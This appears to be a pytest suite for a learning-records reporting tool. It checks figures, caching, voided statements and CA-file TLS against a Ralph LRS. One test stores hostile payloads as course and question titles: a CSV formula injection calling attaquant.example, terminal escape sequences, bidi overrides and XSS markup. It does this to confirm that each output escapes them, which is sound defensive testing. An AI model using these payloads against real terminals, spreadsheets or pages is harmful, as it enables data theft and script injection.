"""For the people who run the campus: a learner completes the demo course and rates it, the
records reach a real Ralph, and `parcours report` reads them back from it, as figures, as JSON
and as an HTML page that passes axe. Run against Ralph with its filters fixed (the LRS filters)
and with its upstream defect kept (the report must filter by itself, and be just as right)."""

import csv
import datetime
import json
import os
import subprocess
import uuid

import pytest
import requests
from selenium.webdriver.common.by import By

from conftest import ROOT
from lrs import LrsFront, Ralph
from test_a11y import violations
from test_courses import course_json
from test_player import heading, wait
from test_xapi import drained, lrs_site, play_to_the_end, spa_go  # noqa: F401 (lrs_site: a fixture, on this module's ralph)

BINARY = ROOT / "target" / "release" / "parcours"
COMMENT = "Clair et utile, merci."


@pytest.fixture(params=[False, True], ids=["lrs-filters", "lrs-ignores-filters"])
def ralph(request, tmp_path):
    lrs = Ralph(tmp_path / "ralph", keep_filter_defect=request.param).start()
    lrs.ignores_filters = request.param
    yield lrs
    lrs.stop()


def report(lrs, *args):
    user, password = lrs.auth
    env = dict(os.environ, PARCOURS_LRS_USERNAME=user, PARCOURS_LRS_PASSWORD=password)
    done = subprocess.run([str(BINARY), "report", "--endpoint", lrs.endpoint, *args], env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return done


def rate(browser, rating, comment):
    """Answers the survey on the course page as a learner does: the labelled choice, the comment, the button."""
    survey = wait(browser).until(lambda b: b.find_element(By.CSS_SELECTOR, "section.satisfaction"))
    choice = survey.find_element(By.XPATH, f".//label[contains(@class, 'option')][starts-with(normalize-space(.), '{rating} –')]")
    choice.click()
    field = survey.find_element(By.ID, "satisfaction-comment")
    field.clear()
    field.send_keys(comment)
    survey.find_element(By.ID, "satisfaction-send").click()
    wait(browser).until(lambda b: "Merci" in survey.find_element(By.CSS_SELECTOR, "[role=status]").text)


def test_the_report_shows_the_completed_and_rated_demo_course_from_ralph(browser, lrs_site, ralph, tmp_path):
    demo = course_json("demo")
    browser.get(f"{lrs_site.url}/learn/demo")
    heading(browser, demo["title"])
    assert not browser.find_elements(By.CSS_SELECTOR, "section.satisfaction"), "asked only once completed"
    play_to_the_end(browser, lrs_site.url, demo)
    assessment = demo["assessments"][0]
    spa_go(browser, "/learn/demo")
    heading(browser, demo["title"])
    rate(browser, 4, COMMENT)
    assert browser.find_elements(By.XPATH, "//a[normalize-space(.)='Attestation de suivi']"), \
        "the survey does not hold back the attestation"
    spa_go(browser, "/")  # leaving the course ends the session: `terminated`, with its duration
    heading(browser, "Catalogue des parcours")
    drained(browser)

    done = report(ralph, "--course", demo["id"], "--json")
    assert ("does not honour the `activity` filter" in done.stderr) == ralph.ignores_filters, done.stderr
    figures = json.loads(done.stdout)
    [course] = figures["courses"]
    total = course["total"]
    assert (course["id"], course["title"]) == (demo["id"], demo["title"])
    assert (total["learners"], total["completed"], total["passed"]) == (1, 1, 1)
    assert total["mean_best_score"] == 1.0, "every question of the assessment was answered right"
    assert 0 < total["hours"] < 1, total["hours"]
    assert (total["satisfaction_mean"], total["satisfaction_answers"]) == (4.0, 1)
    assert total["satisfaction_distribution"] == [0, 0, 0, 1, 0]
    assert course["comments"] == [COMMENT]
    assert {q["id"].rsplit("/", 1)[1] for q in course["questions"]} == {i["question"]["id"] for i in assessment["items"]}
    assert all(q["success_rate"] == 1.0 for q in course["questions"])

    table = report(ralph, "--course", demo["id"]).stdout
    assert demo["title"] in table and "4.0 (1)" in table, table

    page = tmp_path / "rapport.html"
    report(ralph, "--course", demo["id"], "--html", str(page))
    html = page.read_text()
    assert "<script" not in html and COMMENT in html
    browser.get(page.as_uri())
    heading(browser, "Rapport des parcours")
    found = violations(browser)
    assert not found, json.dumps(found, ensure_ascii=False, indent=1)


def test_a_nightly_run_with_a_cache_fetches_only_what_is_new_and_keeps_the_latest_rating(ralph, tmp_path):
    course = {"objectType": "Activity", "id": "https://parcours.example.org/courses/nightly",
              "definition": {"type": "http://adlnet.gov/expapi/activities/course", "name": {"fr": "Nocturne"}}}
    actor = {"objectType": "Agent", "account": {"homePage": "https://parcours.example.org", "name": "l1"}}
    registration = str(uuid.uuid4())

    def statement(verb, result=None):
        now = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
        made = {"id": str(uuid.uuid4()), "actor": actor, "object": course, "timestamp": now,
                "verb": {"id": verb, "display": {"en-US": verb.rsplit("/", 1)[1]}},
                "context": {"registration": registration}}
        if result:
            made["result"] = result
        return made

    def post(*statements):
        answer = requests.post(f"{ralph.url}/xAPI/statements", json=list(statements), auth=ralph.auth,
                               headers={"X-Experience-API-Version": "1.0.3"}, timeout=10)
        assert answer.status_code == 200, answer.text

    rated = "http://id.tincanapi.com/verb/rated"
    completed = statement("http://adlnet.gov/expapi/verbs/completed", {"completion": True})
    post(completed, statement(rated, {"score": {"raw": 2, "min": 1, "max": 5, "scaled": 0.25}}))
    cache = tmp_path / "report-cache.json"
    first = json.loads(report(ralph, "--cache", str(cache), "--json").stdout)
    assert first["statements_read"] == 2
    assert first["courses"][0]["total"]["satisfaction_mean"] == 2.0

    post(statement(rated, {"score": {"raw": 5, "min": 1, "max": 5, "scaled": 1.0}}))
    second = json.loads(report(ralph, "--cache", str(cache), "--json").stdout)
    assert second["statements_read"] == 3, "only the new statement was fetched"
    total = second["courses"][0]["total"]
    assert (total["satisfaction_mean"], total["satisfaction_answers"], total["completed"]) == (5.0, 1, 1)

    # The completion was recorded by mistake and is voided: the next run counts again without it.
    voiding = statement("http://adlnet.gov/expapi/verbs/voided")
    voiding["object"] = {"objectType": "StatementRef", "id": completed["id"]}
    del voiding["context"]
    post(voiding)
    done = report(ralph, "--cache", str(cache), "--json")
    assert "counting again from the start" in done.stderr, done.stderr
    third = json.loads(done.stdout)
    total = third["courses"][0]["total"]
    assert (total["completed"], total["learners"], total["satisfaction_mean"]) == (0, 1, 5.0)
    assert third["statements_voided"] == 1


def test_hostile_statements_reach_the_terminal_the_spreadsheet_and_the_page_as_plain_text(ralph, tmp_path):
    """Anyone may POST a statement through the site's proxy: what it says must not command the
    operator's terminal (escape sequences, a carriage return), be evaluated by a spreadsheet (a
    formula), nor become markup in the HTML report."""
    title = '=HYPERLINK("https://attaquant.example/?"&A1,"clic")\x1b]0;pwned\x07\x1b[2J\x1b[31m\rÉcrasé<b>gras</b>'
    question = "Question\x9b31m\u202etxt.exe<img src=x onerror=alert(1)>"
    course = {"objectType": "Activity", "id": "https://parcours.example.org/courses/hostile",
              "definition": {"type": "http://adlnet.gov/expapi/activities/course", "name": {"fr": title}}}
    assessment = {"objectType": "Activity", "id": "https://parcours.example.org/courses/hostile/assessments/final",
                  "definition": {"type": "http://adlnet.gov/expapi/activities/assessment"}}
    actor = {"objectType": "Agent", "account": {"homePage": "https://parcours.example.org", "name": "l1"}}
    now = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    context = {"registration": str(uuid.uuid4()), "contextActivities": {"parent": [assessment], "grouping": [course]}}
    statements = [
        {"id": str(uuid.uuid4()), "actor": actor, "object": course, "timestamp": now,
         "verb": {"id": "http://id.tincanapi.com/verb/rated", "display": {"en-US": "rated"}},
         "result": {"score": {"raw": 4, "min": 1, "max": 5, "scaled": 0.75}, "response": "Merci\x1b[2J<script>x</script>"},
         "context": {"registration": context["registration"]}},
        {"id": str(uuid.uuid4()), "actor": actor, "timestamp": now, "context": context,
         "object": {"objectType": "Activity", "id": "https://parcours.example.org/courses/hostile/questions/q1",
                    "definition": {"type": "http://adlnet.gov/expapi/activities/cmi.interaction",
                                   "name": {"fr": question}}},
         "verb": {"id": "http://adlnet.gov/expapi/verbs/answered", "display": {"en-US": "answered"}},
         "result": {"success": False}},
    ]
    answer = requests.post(f"{ralph.url}/xAPI/statements", json=statements, auth=ralph.auth,
                           headers={"X-Experience-API-Version": "1.0.3"}, timeout=10)
    assert answer.status_code == 200, answer.text

    def commands(text):
        return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]

    table = report(ralph).stdout
    assert commands(table) == [], repr(table)
    assert "\\u{1b}]0;pwned\\u{7}\\u{1b}[2J" in table and "Question\\u{9b}31m\\u{202e}txt.exe" in table, table

    csv_text = report(ralph, "--csv").stdout
    assert commands(csv_text) == []
    rows = list(csv.reader(csv_text.splitlines()))
    assert rows[1][1].startswith("'=HYPERLINK("), rows[1]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
    assert rows[1][3] == "1", "the figures stay numbers"

    page = tmp_path / "rapport.html"
    report(ralph, "--html", str(page))
    html = page.read_text()
    assert commands(html) == []
    assert "<script" not in html and "<img" not in html and "<b>" not in html
    assert "&lt;b&gt;gras&lt;/b&gt;" in html and "&lt;script&gt;x&lt;/script&gt;" in html

    as_json = report(ralph, "--json").stdout
    assert commands(as_json) == [] and "\\u001b" not in as_json, "escaped before JSON is written"


def test_the_report_reaches_an_lrs_signed_by_a_ca_given_with_ca_file_and_not_without(ralph, tmp_path):
    """An operator behind a government PKI: the LRS's certificate is signed by a CA in no public
    trust store. Without `--ca-file` the report refuses the connection and says what to do; with
    it, the report reads the LRS."""
    front = LrsFront(ralph, pki=tmp_path / "pki")
    try:
        statement = {"id": str(uuid.uuid4()), "timestamp": "2026-12-06T10:00:00.000Z",
                     "actor": {"objectType": "Agent", "account": {"homePage": "https://x", "name": "l1"}},
                     "verb": {"id": "http://adlnet.gov/expapi/verbs/completed", "display": {"en-US": "completed"}},
                     "object": {"objectType": "Activity", "id": "https://parcours.example.org/courses/pki"},
                     "result": {"completion": True}}
        assert ralph.post([statement]).status_code == 200
        user, password = ralph.auth
        env = dict(os.environ, PARCOURS_LRS_USERNAME=user, PARCOURS_LRS_PASSWORD=password)
        command = [str(BINARY), "report", "--endpoint", f"{front.url}/xAPI/", "--json"]

        refused = subprocess.run(command, env=env, capture_output=True, text=True, timeout=120)
        assert refused.returncode == 1 and "--ca-file" in refused.stderr, refused.stderr

        trusted = subprocess.run(command + ["--ca-file", str(front.ca)], env=env, capture_output=True, text=True,
                                 timeout=120)
        assert trusted.returncode == 0, trusted.stderr
        assert json.loads(trusted.stdout)["statements_read"] == 1
        assert "localhost" in front.server_names, "the report names the host it expects (SNI)"

        not_pem = tmp_path / "ca.txt"
        not_pem.write_text("this is no certificate\n")
        wrong = subprocess.run(command + ["--ca-file", str(not_pem)], env=env, capture_output=True, text=True,
                               timeout=120)
        assert wrong.returncode == 1 and "holds no PEM certificate" in wrong.stderr, wrong.stderr
    finally:
        front.close()
